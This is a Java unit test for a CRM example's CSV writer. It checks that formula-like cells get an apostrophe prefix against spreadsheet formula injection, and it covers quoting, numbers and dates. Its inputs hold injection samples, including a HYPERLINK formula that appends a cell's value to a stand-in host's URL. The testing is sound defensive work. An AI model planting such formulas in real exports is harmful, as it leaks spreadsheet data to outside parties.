package io.crmkit.examples.tour.export;

import static org.assertj.core.api.Assertions.assertThat;

import io.crmkit.examples.tour.reporting.Cell;
import java.io.IOException;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvWriterTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "-12.50",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "=",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(A1)",
                " =1+1",
                "\u00a0=1+1",
                "\ufeff=1+1",
                "\u200b-1",
                "=HYPERLINK(\"http://a.example/?\"&A1,\"see\")"
            })
    @DisplayName("A text that begins like a formula gets an apostrophe before it")
    void formula(String text) {
        assertThat(SafeCell.of(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "Ann", "a=b", "1-2", "'s-Hertogenbosch", "\"=1\"", "5 %", "(1)", "Ж+1", "·-1"})
    @DisplayName("Any other text stays as it is")
    void harmless(String text) {
        assertThat(SafeCell.of(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "Ann                | \"Ann\"",
                "Smith, Ann         | \"Smith, Ann\"",
                "the \"best\"       | \"the \"\"best\"\"\"",
                "a;=1               | \"a;=1\"",
                "=\"a\"             | \"'=\"\"a\"\"\"",
                "``                 | \"\""
            })
    @DisplayName("Texts are in quotes, and quotes in them are doubled")
    void texts(String text, String written) throws IOException {
        assertThat(line(Cell.of(text))).isEqualTo(written + "\r\n");
    }

    @ParameterizedTest
    @CsvSource({
        "-12.50, -12.50",
        "0, 0",
        "1E+3, 1000",
        "-1E-7, -0.0000001",
        "12345678901234567890.123456789, 12345678901234567890.123456789"
    })
    @DisplayName("Numbers are written whole, exactly and without quotes, negative ones too")
    void numbers(BigDecimal number, String written) throws IOException {
        assertThat(line(Cell.of(number))).isEqualTo(written + "\r\n");
    }

    @Test
    @DisplayName("Days are written as ISO 8601 has them, unless they would begin with a sign")
    void days() throws IOException {
        assertThat(line(Cell.of(LocalDate.of(2005, 5, 31)))).isEqualTo("2005-05-31\r\n");
        assertThat(line(Cell.of(LocalDate.of(12005, 5, 31)))).isEqualTo("\"'+12005-05-31\"\r\n");
        assertThat(line(Cell.of(LocalDate.of(-5, 5, 31)))).isEqualTo("\"'-0005-05-31\"\r\n");
    }

    @Test
    @DisplayName("Cells are parted by commas, and a cell with nothing in it is empty")
    void cells() throws IOException {
        assertThat(line(Cell.of("a"), new Cell.None(), Cell.of(-1), Cell.of("-1")))
                .isEqualTo("\"a\",,-1,\"'-1\"\r\n");
    }

    private static String line(Cell... cells) throws IOException {
        StringBuilder out = new StringBuilder();
        new CsvWriter(out).row(List.of(cells));
        return out.toString();
    }
}
